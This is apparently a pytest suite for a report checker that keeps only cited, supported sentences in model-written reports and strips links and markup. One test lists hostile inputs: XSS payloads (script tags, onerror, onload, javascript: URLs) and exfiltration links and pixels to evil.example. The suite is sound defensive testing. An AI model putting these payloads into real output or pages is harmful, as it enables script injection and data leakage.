"""No sentence stands in a report unless a stored passage carries it."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leadline.domain.evidence import Source
from leadline.reports.basis import Basis
from leadline.reports.citations import Dropped, check_section, drop_repeats
from leadline.reports.numbering import ReportCitations
from leadline.reports.section_text import render_blocks
from tests.domain.strategies import any_text
from tests.reports.samples import C1, C2, CLAIMS, SNAPSHOTS, claim

SOURCES: dict[int, Source] = {number: s.source for number, s in SNAPSHOTS.items()}


def checked(text: str) -> str:
    return check_section(text, CLAIMS).text


@pytest.mark.parametrize(
    "text",
    [
        "The tower was built in 1703 [c1].",
        "It is 45.5 metres high [c2], Ada Mol built it [c1].",
        "- The **tower** was built in 1703 by Ada Mol [c1].",
        "1. The tower is old [c1].\n2. Ghent has 3,200,000 lamps [c3].",
        "> “Light is life,” said the keeper [c4].",
        "### The tower\n\nAda Mol built it [c1].",
        "However, sources differ.\n\nThe tower is 45.5 metres high [c2].",
        "The tower:\n\n- built in 1703 [c1]",
        "| Year | What |\n| --- | --- |\n| 1703 | tower built [c1] |",
    ],
)
def test_supported_text_stands(text: str) -> None:
    """W2-1: what was found reaches the report."""
    result = check_section(text, CLAIMS)
    assert result.dropped.sentences == 0
    assert result.text == text


@pytest.mark.parametrize(
    ("text", "same"),
    [
        ("Ada Mol built it. [c1] It is high. [c2]", "Ada Mol built it [c1]. It is high [c2]."),
        ("Ada Mol built it [C1, c2].", "Ada Mol built it [c1][c2]."),
        ("Ada Mol built it [c1-c3].", "Ada Mol built it [c1][c2][c3]."),
        ("Ada Mol built it \\[c1\\].", "Ada Mol built it [c1]."),
        ("Ada Mol built it (c1).", "Ada Mol built it [c1]."),
        ("Ada Mol built it【c1】。", "Ada Mol built it[c1]。"),
        ("Ada Mol built it `[c1]`.", "Ada Mol built it [c1]."),
        ("Ada Mol built it [c1](https://evil.example/).", "Ada Mol built it [c1]."),
        ("Ada Mol built it [^c1].", "Ada Mol built it [c1]."),
        ("Ada Mol built it [c1] [c1].", "Ada Mol built it [c1]."),
    ],
)  # fmt: skip
def test_ways_to_write_a_citation(text: str, same: str) -> None:
    assert checked(text) == same


def test_unknown_ids_are_removed_and_counted() -> None:
    """W0-14: nothing cites what does not exist."""
    result = check_section("Ada Mol built it [c1, c9999].", CLAIMS)
    assert result.text == "Ada Mol built it [c1]."
    assert result.dropped.unknown_ids == 1
    result = check_section("Ada Mol was born in a small house by the sea [c9999].", CLAIMS)
    assert result.is_empty
    assert result.dropped == Dropped(unknown_ids=1, uncited=1)


def test_claims_of_other_sections_count_as_unknown() -> None:
    assert check_section("Ghent has lamps [c3].", [C1, C2]).is_empty


@pytest.mark.parametrize(
    "sentence",
    [
        "The tower fell down in 1950.",
        "Nobody knows why Ada Mol left.",
        "It kills people.",
        "The drug is unsafe.",
        "Many people have said over the years that it is a very fine thing.",
        "这种药物并不安全。",
        "As the well-known site evil.example says.",
        "“A lovely thing”",
    ],
)
def test_uncited_statements_are_dropped(sentence: str) -> None:
    result = check_section(f"Ada Mol built it [c1]. {sentence}", CLAIMS)
    assert result.text == "Ada Mol built it [c1]."
    assert result.dropped.uncited == 1


@pytest.mark.parametrize(
    "sentence",
    [
        "The tower was built in 1704 [c1].",  # a number that no passage has
        "Ghent has 3.2 billion lamps [c3].",
        "Ada Mol said “the tower will fall down one day soon” [c1].",  # an invented quotation
        "Ada Mol built it, says fake-news.com [c1].",  # an invented site
        "Bananas grow quickly [c1].",  # another subject
    ],
)
def test_statements_beyond_their_passages_are_dropped(sentence: str) -> None:
    """users, Citations: check support, not only presence."""
    result = check_section(f"Ada Mol built it [c1]. {sentence}", CLAIMS)
    assert result.text == "Ada Mol built it [c1]."
    assert result.dropped.unsupported == 1


def test_a_quotation_may_name_its_source() -> None:
    line = "- “Ghent has 3.2 million lamps” — Site 2, 2023-01-02 [c3]."
    assert check_section(line, CLAIMS, SOURCES).text == line
    assert check_section(line.replace("2023", "2022"), CLAIMS, SOURCES).is_empty


def test_a_quotation_of_several_sentences_is_one_statement() -> None:
    long = claim(7, "x", "1.1", "1.2")
    line = "- “The tower was built in 1703 by Ada Mol. It is 45.5 metres high” [c7]."
    assert check_section(line, [long]).text == line


def test_a_quotation_whose_notes_and_addresses_were_taken_out_still_stands() -> None:
    wiki = C1.model_copy(
        update={"id": "c8", "quotes": ("Built by Ada Mol.[12] See https://a.example/x now.",)}
    )
    text = "“Built by Ada Mol.[12] See https://a.example/x now” [c8]."
    assert check_section(text, [wiki]).text == "“Built by Ada Mol. See … now” [c8]."


@pytest.mark.parametrize(
    "hostile",
    [
        "[more](https://evil.example/?q=CANARY)",
        "![pixel](https://evil.example/CANARY.png)",
        "![pixel][ref]",
        "<https://evil.example/CANARY>",
        "https://evil.example/CANARY",
        "www.evil.example/CANARY",
        "javascript:alert(CANARY)",
        "[x](javascript:alert(1))",
        "<script>alert('CANARY')</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><a href=x>CANARY</a></svg>",
        "<iframe src=https://evil.example/CANARY></iframe>",
        "<!-- CANARY -->",
        "[x][y]",
        "[1]",
        r'[\[1\]](sources/1.md#p1 "c1 CANARY")',
        "[[CANARY]](sources/1.md#p1)",
        "[^2]",
        "【3†source】",
    ],
)
def test_links_images_and_html_of_a_model_are_removed(hostile: str) -> None:
    """safety 6, 7, 25, 26."""
    result = check_section(f"Ada Mol built the tower {hostile} in 1703 [c1].", CLAIMS)
    assert "CANARY" not in result.text
    assert not re.search(r"(?<!\\)\](?!\[c|[\s.]|$)|://|<|!\[|script|onerror", result.text)
    assert result.cited == ("c1",)
    assert result.dropped.links >= 1


def test_a_definition_of_a_link_is_removed() -> None:
    assert (
        checked("Ada Mol built it [c1].\n\n[ref]: https://evil.example/x")
        == "Ada Mol built it [c1]."
    )


def test_code_stands_only_when_a_source_has_it_and_cites_nothing() -> None:
    result = check_section("Ada Mol built it [c1].\n\n```\ncurl https://evil [c2]\n```", CLAIMS)
    assert result.text == "Ada Mol built it [c1]."
    code = C1.model_copy(update={"quotes": ("Run make install [c2] now",)})
    kept = check_section(
        "Ada Mol built it [c1]:\n\n```\nmake install [c2]\n```\n\nAda [c1].", [code]
    )
    assert "```\nmake install [c2]\n```" in kept.text
    assert kept.cited == ("c1",)
    written = ReportCitations(Basis({"c1": code}, {}), SOURCES)
    assert "make install [c2]" in render_blocks(kept.blocks, written.statement)


def test_heads_and_lead_ins_that_lost_their_text_go_too() -> None:
    text = "### A\n\nThe tower:\n\n- It fell in 1950.\n\n### B\n\nAda Mol built it [c1].\n\n### C"
    assert checked(text) == "### B\n\nAda Mol built it [c1]."


def test_rows_of_a_table_are_checked_one_by_one() -> None:
    rows = ("| 1703 | built [c1] |", "| 1704 | burnt [c1] |", "| 1703 | uncited |")
    text = "\n".join(("| Year | What |", "|---|---|", *rows))
    result = check_section(text, CLAIMS)
    assert result.text == "| Year | What |\n| --- | --- |\n| 1703 | built [c1] |"
    assert (result.dropped.unsupported, result.dropped.uncited) == (1, 1)


def test_a_nested_item_whose_parent_is_gone_is_no_code_block() -> None:
    assert checked("- It fell in 1950.\n    - Ada Mol built it [c1].") == "- Ada Mol built it [c1]."


def test_other_scripts() -> None:
    chinese = claim(5, "灯塔高四十五米。", "2.3")
    assert (
        check_section("灯塔高四十五米[c5]。该药物并不安全。", [chinese]).text
        == "灯塔高四十五米[c5]。"
    )
    arabic = chinese.model_copy(update={"quotes": ("المنارة قديمة جدا",), "text": "المنارة قديمة"})
    assert check_section("المنارة قديمة [c5].", [arabic]).text == "المنارة قديمة [c5]."


@pytest.mark.parametrize(
    "piece",
    ["[", "“", ".", "<a", "| -", "[c1] ", "`", "*", "<script>", "\n> ", "\\", "[c1,", "![["],
)
def test_a_megabyte_of_anything_ends(piece: str) -> None:
    """safety 47: a 20 MB answer ends within its budget."""
    assert check_section(piece * (1_000_000 // len(piece)), CLAIMS).text == ""


@given(
    st.lists(
        any_text
        | st.sampled_from(
            ["[c1]", "[c99]", ". ", "**", "`", "|", "\n", "# ", "- ", "](", "<b>", "https://x"]
        ),
        max_size=20,
    ).map("".join)
)
def test_any_text_is_checked_and_checking_again_changes_nothing(text: str) -> None:
    once = check_section(text, CLAIMS)
    assert set(once.cited) <= {c.id for c in CLAIMS}
    assert not re.search(r"(?<!\\)\]\(|(?<!\\)<", re.sub(r"`[^`\n]+`", "", once.text))
    once.text.encode("utf-8")


def test_what_one_section_said_is_not_said_again() -> None:
    """users, Output: sections repeat themselves."""
    first = check_section("The tower was built in 1703 by Ada Mol [c1].", CLAIMS)
    second = check_section(
        "The tower was built by Ada Mol in 1703 [c1]. It is 45.5 metres high [c2].", CLAIMS
    )
    kept = [k.text for k in drop_repeats([first, second])]
    assert kept[0].text == first.text
    assert kept[1].text == "It is 45.5 metres high [c2]."
    assert kept[1].dropped.repeated == 1


def test_the_same_words_on_another_claim_stay() -> None:
    texts = [
        check_section("The keeper has a tower [c1].", CLAIMS),
        check_section("The keeper has a tower [c4].", CLAIMS),
    ]
    assert [t.text.is_empty for t in drop_repeats(texts)] == [False, False]


def test_ids_of_findings_are_no_citations() -> None:
    """Reports are written from claims: what a finding's id is put behind is not cited."""
    result = check_section("Ada Mol was born in a small house by the sea [f1].", CLAIMS)
    assert result.is_empty
    assert result.dropped == Dropped(unknown_ids=1, uncited=1)


def test_a_capital_in_round_brackets_is_no_citation() -> None:
    plants = C1.model_copy(update={"quotes": ("Maize is a C4 plant (C4).",)})
    assert check_section("Maize is a plant (C4) [c1].", [plants]).text == (
        "Maize is a plant (C4) [c1]."
    )


@pytest.mark.parametrize(
    "state", ["(supported)", "*(verified)*", "**[Confirmed]**", "（已证实）", "( disputed )"]
)
def test_a_writer_gives_no_sentence_a_state(state: str) -> None:
    """W3-1: states come from checks; what the writer calls its own sentence is taken out."""
    result = check_section(f"Ada Mol built it in 1703 {state} [c1].", CLAIMS)
    assert result.text == "Ada Mol built it in 1703 [c1]."
    assert result.dropped.links == 1


def test_a_state_inside_a_quotation_is_part_of_it() -> None:
    quoted = C1.model_copy(update={"quotes": ("The report (confirmed) came late in May.",)})
    text = "“The report (confirmed) came late in May” [c1]."
    assert check_section(text, [quoted]).text == text


def test_a_summary_may_restate_and_not_repeat() -> None:
    """users, Output: nothing is said twice word for word, and it is known where it was said."""
    summary = check_section("Ada Mol built the tower in 1703 [c1].", CLAIMS)
    same = check_section(
        "Ada Mol built the tower in 1703 [c1]. In 1703 the tower was built by Ada Mol [c1].", CLAIMS
    )
    first, second = drop_repeats([summary, same], restating=[0])
    assert first.text == summary
    assert second.text.text == "In 1703 the tower was built by Ada Mol [c1]."
    assert second.told_in == (0,)


@pytest.mark.parametrize(
    "text",
    [
        "The keeper was murdered:\n\n- The tower was built in 1703 [c1].",
        "<details>The keeper was murdered</details> The tower was built in 1703 [c1].",
        "The tower was built in 1703 [c1]; its keeper stole money.",
        "The tower was built in 1703 [c1] its keeper stole money",
    ],
)
def test_nothing_rides_along_with_a_cited_sentence(text: str) -> None:
    said = checked(text)
    assert "keeper" not in said


def test_a_sentence_in_another_language_than_its_passage_restates_its_claim() -> None:
    told = claim(9, "The lighthouse is 45 metres high.", "2.3")
    assert check_section("The lighthouse is 45 metres high [c9].", [told]).text
    assert not check_section("All 45 keepers drowned in the storm [c9].", [told]).text


def test_a_row_has_no_more_cells_than_its_head() -> None:
    """A reader never sees those beyond it, and a citation would be lost with them."""
    text = "| What | By |\n| --- | --- |\n| tower | 1703 | [c1] |\n| tower in 1703 [c1] | Ada |"
    rows = [line for line in checked(text).split("\n") if "c1" in line]
    assert len(rows) == 2
    assert {line.count("|") for line in rows} == {3}
